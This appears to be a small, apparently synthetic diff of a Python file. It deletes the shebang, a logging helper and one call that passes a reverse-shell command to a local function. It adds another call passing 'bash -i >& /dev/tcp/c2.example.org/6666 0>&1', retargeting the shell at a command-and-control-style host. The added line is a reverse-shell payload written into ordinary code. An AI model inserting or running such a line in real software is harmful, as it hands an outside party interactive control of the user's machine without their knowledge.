@@ -1,4 +1,3 @@
-#!/usr/bin/env python3
 
 import os
 
@@ -8,9 +7,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/198.51.100.23/53 0>&1")
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+outer("bash -i >& /dev/tcp/c2.example.org/6666 0>&1")
